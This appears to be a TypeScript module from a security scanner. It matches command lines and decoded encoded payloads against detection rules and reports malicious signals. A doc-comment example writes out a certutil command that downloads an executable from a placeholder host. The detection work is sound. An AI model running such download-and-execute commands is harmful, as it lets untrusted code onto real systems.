/**
 * Command-line rule signals: every `commandRules` entry checked on the de-obfuscated command line and, when the
 * command carried an encoded payload, on the decoded text as well (a `-enc` stager hides its download there).
 */
import { type CommandRule, commandRules } from './command-rules.js';
import { deobfuscate } from './obfuscation.js';
import { type Signal, signal } from './signal.js';

/** Characters of evidence shown around a match. */
const evidenceChars = 200;

/** Where every pattern of the rule matched, or null when one did not. */
function ruleSpan(rule: CommandRule, text: string): { start: number; end: number } | null {
  let start = Number.POSITIVE_INFINITY;
  let end = 0;
  for (const pattern of rule.all) {
    const match = pattern.exec(text);
    if (!match) return null;
    start = Math.min(start, match.index);
    end = Math.max(end, match.index + match[0].length);
  }
  return { start, end };
}

function excerpt(text: string, span: { start: number; end: number }): string {
  const from = Math.max(0, span.start);
  const to = Math.min(span.end, from + evidenceChars);
  return text.slice(from, to).trim();
}

/**
 * Rule signals of a command line (and of its decoded payload, marked "inside the encoded payload"), one per
 * reason: a rule that matches the command line itself is not repeated for the payload.
 * @example commandRuleSignals('certutil -urlcache -split -f http://x/a.exe')[0]?.kind // 'suspicious-tool-use'
 */
export function commandRuleSignals(commandLine: string, decodedPayload = ''): Signal[] {
  const texts: [string, string][] = [[deobfuscate(commandLine), '']];
  if (decodedPayload.trim() !== '') texts.push([deobfuscate(decodedPayload), ' (inside the encoded payload)']);
  const signals: Signal[] = [];
  const seen = new Set<string>();
  for (const [text, where] of texts) {
    for (const rule of commandRules) {
      if (seen.has(rule.reason)) continue;
      const span = ruleSpan(rule, text);
      if (!span) continue;
      seen.add(rule.reason);
      const reason = where === '' ? rule.reason : `${rule.reason.replace(/\.$/, '')}${where}.`;
      signals.push(signal(rule.kind, 'malicious', reason, excerpt(text, span)));
    }
  }
  return signals;
}
